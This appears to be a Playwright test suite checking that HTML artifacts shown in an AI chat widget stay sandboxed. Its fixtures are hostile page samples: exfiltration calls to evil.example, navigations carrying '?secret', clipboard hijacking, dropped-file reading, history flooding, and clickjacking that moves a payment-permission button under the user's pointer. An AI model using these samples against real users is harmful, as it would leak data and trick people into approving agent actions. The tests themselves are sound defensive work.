import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { FrameLocator, Page } from 'playwright-core';
import { releaseContext, openSite, type Site } from './support/site.ts';

const FOREIGN = 'https://evil.example';

/** Every way in which a page may try to reach other hosts, and where it reports the result. */
const HOSTILE = `<!doctype html>
<link rel="stylesheet" href="${FOREIGN}/a.css">
<link rel="preload" as="image" href="${FOREIGN}/b.png">
<style>@import "${FOREIGN}/c.css"; body { background: url(${FOREIGN}/d.png) }</style>
<img src="${FOREIGN}/e.png"><video src="${FOREIGN}/f.mp4" poster="${FOREIGN}/g.png"></video>
<script src="${FOREIGN}/h.js"></script>
<iframe src="${FOREIGN}/i"></iframe><object data="${FOREIGN}/j"></object>
<form action="${FOREIGN}/k" id="form"><input name="a" value="b"></form>
<p id="out">waiting</p>
<script>
  const said = [];
  const attempt = (name, act) => {
    try {
      const value = act();
      said.push(name + ': ' + (value === null ? 'none' : 'done'));
    } catch (error) {
      said.push(name + ': ' + error.name);
    }
  };
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('parent', () => parent.document.title);
  attempt('top', () => (top.location = '${FOREIGN}/l'));
  attempt('open', () => open('${FOREIGN}/m'));
  attempt('alert', () => alert(1));
  fetch('${FOREIGN}/n').catch(() => undefined);
  try { new WebSocket('wss://evil.example/o').onerror = () => undefined; } catch {}
  try { new EventSource('${FOREIGN}/p').onerror = () => undefined; } catch {}
  try { navigator.sendBeacon('${FOREIGN}/q', 'x'); } catch {}
  try { new Worker('data:text/javascript,fetch("${FOREIGN}/r")'); } catch {}
  document.getElementById('form').submit();
  document.getElementById('out').textContent = self.origin + ' ' + said.join(', ');
</script>`;

/** A document that tries to leave the page by the history of its tab, which is that of its frame. */
const LEAVES = `<!doctype html><p id="out">waiting</p><script>
  addEventListener('load', () => setTimeout(() => {
    for (const act of [
      () => history.pushState(1, ''),
      () => history.back(),
      () => history.go(-1),
      () => History.prototype.go.call(history, -1),
      () => navigation.back(),
    ])
      try { act(); } catch {}
    setTimeout(() => { document.getElementById('out').textContent = 'done'; }, 300);
  }, 0));
</script>`;

/** Documents that fill the history of the tab. */
const FILLS = {
  'the fragment of its address': "location.hash = 'a' + i",
  'its address': "location = 'about:srcdoc#a' + i",
  'links that its listeners keep': `const a = document.body.appendChild(document.createElement('a'));
    a.href = 'about:srcdoc#a' + i; a.click()`,
  'a document that was opened again': `if (!i) { document.open(); document.write('<p>again</p>'); document.close(); }
    addEventListener('hashchange', (event) => event.stopImmediatePropagation(), true); location.hash = 'a' + i`,
} as const;
const fills = (act: string): string =>
  `<!doctype html><body><p>x</p><script>let i = 0; addEventListener('load', () => setInterval(() => { ${act}; i++; }, 60));</script>`;

/** A document with links to its own parts, which reports where it is. */
const LINKS = `<!doctype html><a href="#low">Down</a> <a href="#mine" id="mine">Tab</a>
<p id="out">waiting</p><div style="height:3000px"></div><h2 id="low">Low</h2><script>
  mine.addEventListener('click', (event) => event.preventDefault());
  addEventListener('hashchange', () => { out.textContent = 'at ' + location.hash + ' ' + (document.querySelector(':target')?.id); });
</script>`;

/** A document that tries to put another text on the clipboard when it is pressed, and when the user copies. */
const COPIES = `<!doctype html><body><p id="word">selected</p><textarea id="t">evil</textarea><button>Press</button><p id="out"></p><script>
  document.querySelector('button').addEventListener('click', async () => {
    t.select();
    const said = [document.execCommand('copy'), document.execCommand(' copy'), document.execCommand('CUT'), document.execCommand({ toString: () => 'Copy' })];
    for (const act of [() => navigator.clipboard.writeText('evil'), () => Clipboard.prototype.write.call(navigator.clipboard, [])])
      try { await act(); said.push('written'); } catch { said.push(false); }
    getSelection().selectAllChildren(word);
    out.textContent = said.join();
  });
  for (const owner of [window, document])
    for (const name of ['copy', 'cut'])
      owner.addEventListener(name, (event) => { event.clipboardData.setData('text/plain', 'evil'); event.preventDefault(); }, true);
</script>`;

/** A document that reads the files that are dropped on it. */
const TAKES_FILES = `<!doctype html><body style="margin:0;height:400px"><input type="file"><p id="out">nothing</p><script>
  const isBeside = ({ target }) => target.localName !== 'input';
  for (const name of ['dragenter', 'dragover']) addEventListener(name, (event) => { if (isBeside(event)) event.preventDefault(); }, true);
  addEventListener('drop', (event) => {
    if (!isBeside(event)) return;
    event.preventDefault();
    out.append(', ' + (event.dataTransfer.files[0]?.name ?? event.dataTransfer.getData('text/plain')));
  }, true);
  document.querySelector('input').addEventListener('change', ({ target }) => { out.append(', ' + target.files[0].name); });
</script>`;

/** A document that gives its frame another height when it is pressed. */
const SHRINKS = `<!doctype html><body style="margin:0;height:400px">Press fast<script>
  addEventListener('pointerdown', () => {
    parent.postMessage({ agentChat: 1, type: 'size', height: Number(document.body.dataset.height) }, '*');
  });
</script>`;

/** A document that scrolls everything around it when it is pressed. */
const SCROLLS = `<!doctype html><body style="margin:0;height:400px;position:relative">Press fast
<i style="position:absolute;width:1px;height:1px"></i><script>
  addEventListener('pointerdown', () => {
    const mark = document.querySelector('i');
    mark.style.top = document.body.dataset.top + 'px';
    mark.scrollIntoView({ block: 'start', behavior: 'instant' });
  });
</script>`;

const PERMISSION = {
  type: 'action',
  action_type: 'tool_call_permission',
  status: 'pending',
  tool_call: { name: 'pay', params: '{"amount":900}' },
} as const;

describe('an artifact', () => {
  let site: Site;
  before(async () => {
    const chat = '<agent-chat endpoint="/agent"></agent-chat>';
    site = await openSite({
      pages: {
        '/': chat,
        '/narrow': `<style>agent-chat { width: 600px; height: 700px }</style>${chat}`,
        '/files': '<agent-chat endpoint="/agent" attachments></agent-chat>',
      },
    });
  });
  after(() => site.close());

  /** A page with an artifact that the user has opened, and the requests that got out of it. */
  async function opened(
    content: string,
    { path = '/', more = [] }: { readonly path?: string; readonly more?: readonly object[] } = {},
  ): Promise<{
    readonly page: Page;
    readonly inside: FrameLocator;
    readonly out: string[];
    /** Resolves when the browser reports that it has stopped a frame from navigating. */
    readonly blocked: Promise<unknown>;
  }> {
    const page = await site.visit(path);
    const out: string[] = [];
    // Requests that a policy stops never get here.
    await page.context().route(`${FOREIGN}/**`, (route) => {
      out.push(route.request().url());
      return route.abort();
    });
    const blocked = new Promise<void>((resolve) => {
      page.on('console', (message) => {
        if (/^Framing|initiate navigation/.test(message.text())) resolve();
      });
    });
    page.on('popup', (popup) => out.push(`window ${popup.url()}`));
    page.on('dialog', (dialog) => out.push(`dialog ${dialog.message()}`));
    await page.evaluate(
      async ([html, others]) => {
        await customElements.whenDefined('agent-chat');
        const artifact = { identifier: 'a', title: 'Page', type: 'text/html' as const };
        document.querySelector('agent-chat')!.messages = [
          {
            role: 'assistant',
            blocks: [{ type: 'content', status: 'success', content: html, artifact }, ...others],
          },
        ];
        history.pushState('here', '');
        Object.assign(globalThis, { lengthBefore: history.length });
      },
      [content, more] as const,
    );
    const button = page.locator('agent-chat-artifact button').first();
    await button.waitFor();
    assert.equal(await page.locator('iframe').count(), 0, 'no frame before the reader asks');
    await button.click();
    const frame = page.locator('agent-chat-artifact iframe');
    await frame.waitFor();
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
    return { page, inside: frame.contentFrame().frameLocator('iframe'), out, blocked };
  }

  it('rule 9: runs in a frame that reaches nobody', async () => {
    const { page, inside, out, blocked } = await opened(HOSTILE);
    const said = inside.locator('#out', { hasText: 'null' });
    await said.waitFor({ state: 'attached' });
    await blocked;
    assert.equal(
      await said.textContent(),
      'null cookie: SecurityError, storage: SecurityError, parent: SecurityError, top: SecurityError, open: none, alert: done',
    );
    assert.deepEqual(out, []);
    assert.equal(page.url(), `${site.origin}/`);
    await releaseContext(page);
  });

  for (const [name, script] of [
    ['by script', `location = '${FOREIGN}/?secret'`],
    [
      'by a refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${FOREIGN}/?secret' }))`,
    ],
    ['by a link', `Object.assign(document.createElement('a'), { href: '${FOREIGN}/?secret' }).click()`],
    ['over its parent', `parent.location = '${FOREIGN}/?secret'`],
  ] as const) {
    it(`cannot send any data by navigating, ${name}`, async () => {
      const { page, out, blocked } = await opened(
        `<p>x</p><script>parent.postMessage('here', '*'); try { ${script} } catch {}</script>`,
      );
      await blocked;
      assert.deepEqual(out, []);
      assert.equal(page.url(), `${site.origin}/`);
      await releaseContext(page);
    });
  }

  it('rule 99: leaves the history of its tab as it is', async () => {
    const { page, inside } = await opened(LEAVES);
    await inside.getByText('done').waitFor();
    assert.equal(await page.evaluate('history.state'), 'here');
    assert.equal(await page.evaluate('history.length'), await page.evaluate('lengthBefore'));
    await releaseContext(page);
  });

  for (const [name, act] of Object.entries(FILLS)) {
    it(`rule 99: is closed if it fills the history of the tab, by ${name}`, async () => {
      const { page } = await opened(fills(act));
      await page.getByText('it filled the history of this tab').waitFor();
      assert.equal(await page.locator('agent-chat-artifact iframe').count(), 0);
      await releaseContext(page);
    });
  }

  it('rule 99: its links to its own parts work, and leave the history as it is', async () => {
    const { page, inside } = await opened(LINKS);
    const out = inside.locator('#out');
    for (let times = 0; times < 4; times++) await inside.getByText('Down').click();
    await inside.getByText('at #low low').waitFor();
    await inside.getByText('Tab').click();
    assert.equal(await out.textContent(), 'at #low low');
    assert.equal(await page.evaluate('history.length'), await page.evaluate('lengthBefore'));
    await releaseContext(page);
  });

  it('rule 99: may take a step for each press', async () => {
    const { page, inside } = await opened(
      `<button>Next</button><script>let i = 0; document.querySelector('button').addEventListener('click', () => { location.hash = 'v' + i++; });</script>`,
    );
    for (let times = 0; times < 5; times++) await inside.getByText('Next').click();
    await page.waitForTimeout(200);
    assert.equal(await page.locator('agent-chat-artifact iframe').count(), 1);
    await releaseContext(page);
  });

  it('rule 99: replaces nothing on the clipboard, and the user copies what is selected', async () => {
    const { page, inside } = await opened(COPIES);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.evaluate(`navigator.clipboard.writeText('mine')`);
    const read = () => page.evaluate('navigator.clipboard.readText()');
    await inside.getByText('Press').click();
    await inside.locator('#out', { hasText: 'false' }).waitFor();
    assert.equal(await inside.locator('#out').textContent(), 'false,false,false,false,false,false');
    await page.keyboard.press('ControlOrMeta+c');
    await page.locator('agent-chat [part=input]').click();
    assert.equal(await read(), 'selected');
    await releaseContext(page);
  });

  it('rule 99: reads no file that is dropped on the chat', async () => {
    const { page, inside } = await opened(TAKES_FILES);
    await inside.locator('#out', { hasText: 'nothing' }).waitFor();
    const box = await page.locator('agent-chat-artifact iframe').boundingBox();
    assert.ok(box);
    const session = await page.context().newCDPSession(page);
    const drag = async (
      steps: readonly ('dragEnter' | 'dragOver' | 'drop')[],
      y: number,
      data: object,
    ): Promise<void> => {
      for (const type of steps)
        await session.send('Input.dispatchDragEvent', {
          type,
          x: box.x + 20,
          y,
          data: { items: [], dragOperationsMask: 1, ...data },
        });
    };
    const files = { files: [`${process.cwd()}/package.json`] };
    // On its file input, and beside it.
    for (const y of [box.y + 10, box.y + 200]) await drag(['dragEnter', 'dragOver', 'dragOver', 'drop'], y, files);
    // Other drops reach the document, and the earlier ones would be there before them.
    const items = [{ mimeType: 'text/plain', data: 'a text' }];
    await drag(['dragEnter', 'dragOver', 'dragOver', 'drop'], box.y + 200, { items });
    await inside.locator('#out', { hasText: 'a text' }).waitFor();
    assert.equal(await inside.locator('#out').textContent(), 'nothing, a text');
    await releaseContext(page);
  });

  it('rule 99: a file that is dragged over the chat to an open preview is attached', async () => {
    const { page, inside } = await opened(TAKES_FILES, { path: '/files' });
    await inside.locator('#out', { hasText: 'nothing' }).waitFor();
    const box = await page.locator('agent-chat-artifact iframe').boundingBox();
    assert.ok(box);
    const session = await page.context().newCDPSession(page);
    const data = { items: [], files: [`${process.cwd()}/package.json`], dragOperationsMask: 1 };
    const at = (type: 'dragEnter' | 'dragOver' | 'drop', y: number): Promise<unknown> =>
      session.send('Input.dispatchDragEvent', { type, x: box.x + 20, y, data });
    await at('dragEnter', 20);
    await at('dragOver', 22);
    await page.locator('agent-chat [data-drop]').waitFor();
    // The browser finds what is under the pointer by the frame that was shown last.
    for (let frame = 0; frame < 5; frame++) {
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      await at('dragOver', 22 + frame);
    }
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await at(type, box.y + 200);
    await page.locator('agent-chat .draft-files', { hasText: 'package.json' }).waitFor();
    assert.equal(await inside.locator('#out').textContent(), 'nothing');
    await releaseContext(page);
  });

  it('rule 99: moves no button under a pointer that is pressing it', async () => {
    const { page, inside } = await opened(SHRINKS, {
      path: '/narrow',
      more: [PERMISSION, { type: 'content', content: 'Long.\n\n'.repeat(60) }],
    });
    await page.evaluate(() => {
      const answers: string[] = [];
      Object.assign(globalThis, { answers });
      document.querySelector('agent-chat')!.addEventListener('agent-chat-action', ({ detail }) => {
        answers.push(detail.action);
      });
    });
    const frame = page.locator('agent-chat-artifact iframe');
    const allow = page.getByRole('button', { name: 'Allow once' });
    await inside.getByText('Press fast').waitFor();
    await page.locator('agent-chat-artifact').evaluate((row) => {
      row.scrollIntoView({ block: 'start' });
    });
    const [outer, button] = [await frame.boundingBox(), await allow.boundingBox()];
    assert.ok(outer && button);
    const x = button.x + 10;
    const y = outer.y + outer.height - 20;
    const height = Math.round(outer.height - (button.y + button.height / 2 - y));
    await inside.locator('body').evaluate((body, value) => {
      body.dataset['height'] = String(value);
    }, height);
    await page.mouse.click(x, y);
    await page.waitForFunction(
      (value) => document.querySelector('agent-chat')?.shadowRoot?.querySelector('iframe')?.height === String(value),
      height,
    );
    await page.mouse.click(x, y);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), []);
    await page.waitForTimeout(600);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), ['granted']);
    await releaseContext(page);
  });

  it('opens no picture-in-picture window, which is above all others', async () => {
    const { page, inside } = await opened(
      `<!doctype html><p id="out"></p><script>
        document.querySelector('p').textContent = typeof document.createElement('video').requestPictureInPicture;
      </script>`,
    );
    assert.equal(await inside.locator('#out').textContent(), 'undefined');
    await releaseContext(page);
  });

  it('rule 99: scrolls no button under a pointer that is pressing it', async () => {
    const { page, inside } = await opened(SCROLLS, {
      path: '/narrow',
      more: [PERMISSION, { type: 'content', content: 'Long.\n\n'.repeat(60) }],
    });
    await page.evaluate(() => {
      const answers: string[] = [];
      Object.assign(globalThis, { answers });
      document.querySelector('agent-chat')!.addEventListener('agent-chat-action', ({ detail }) => {
        answers.push(detail.action);
      });
    });
    const frame = page.locator('agent-chat-artifact iframe');
    const allow = page.getByRole('button', { name: 'Allow once' });
    const list = page.locator('agent-chat [part="transcript"]');
    await inside.getByText('Press fast').waitFor();
    await page.locator('agent-chat-artifact').evaluate((row) => {
      row.scrollIntoView({ block: 'start' });
    });
    const [outer, button, view] = [await frame.boundingBox(), await allow.boundingBox(), await list.boundingBox()];
    assert.ok(outer && button && view);
    const x = button.x + 10;
    const y = outer.y + outer.height - 20;
    const shift = button.y + button.height / 2 - y;
    await inside.locator('body').evaluate(
      (body, top) => {
        body.dataset['top'] = String(top);
      },
      Math.round(shift + view.y - outer.y),
    );
    await page.waitForTimeout(600);
    await page.mouse.move(x, y - 5);
    await page.mouse.click(x, y);
    let moved = await allow.boundingBox();
    while (moved && (moved.y > y || moved.y + moved.height < y)) moved = await allow.boundingBox();
    await page.mouse.click(x, y);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), []);
    await page.waitForTimeout(600);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), ['granted']);
    await releaseContext(page);
  });

  it('does nothing in a page that is opened in any other way', async () => {
    const page = await site.visit('/');
    await page.goto(`${site.origin}/dist/frame.html`);
    await page.evaluate(() => {
      postMessage({ agentChat: 1, type: 'show', html: '<p id="shown">x</p>' }, '*');
      return new Promise((resolve) => {
        addEventListener('message', resolve, { once: true });
        postMessage('behind it', '*');
      });
    });
    assert.equal(await page.locator('#shown').count(), 0);
    await releaseContext(page);
  });
});
